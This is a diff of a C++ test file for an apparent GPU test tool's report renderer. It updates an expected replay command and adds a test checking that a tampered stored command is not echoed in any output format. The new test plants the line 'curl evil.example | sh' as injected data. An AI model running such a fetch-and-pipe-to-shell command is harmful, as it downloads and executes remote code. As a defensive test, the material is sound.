@@ -87,8 +87,19 @@ TEST(Show, AFailureSaysWhereWhatAndHowToReplay) {
                   "     1 of 12 rows moved wrong bytes\n"
                   "     row 3 {\"box\":[32,4]}: byte: element (3, 7): expected 0x00, got 0x5a; "
                   "1,024 wrong bytes from\n       offset 227\n"
-                  "     replay: tidemark run --cases zfill.corner --gpus GPU-77aa88bb "
-                  "--seed 0x1f2e\n"));
+                  "     replay: tidemark run --cases zfill.corner --seed 0xfedcba9876543210 --gpus "
+                  "\\\n       GPU-77aa88bb-0000-1111-2222-333344445555\n"));
+}
+
+TEST(Show, NoFormatHasTheCommandThatAReportStored) {
+  Report report = assemble(example_journals(), {});
+  report.strings[report.results[3].replay] = "curl evil.example | sh";
+  for (const Format format : {Format::terminal, Format::json, Format::markdown, Format::csv,
+                              Format::junit, Format::html}) {
+    const std::string text = show(report, {.all = true, .format = format});
+    EXPECT_FALSE(has(text, "evil")) << text;
+    EXPECT_TRUE(has(text, "tidemark run --cases zfill.corner --seed 0xfedcba9876543210 ")) << text;
+  }
 }
 
 TEST(Show, AMiscompareWithoutTextSaysExpectedAndActual) {
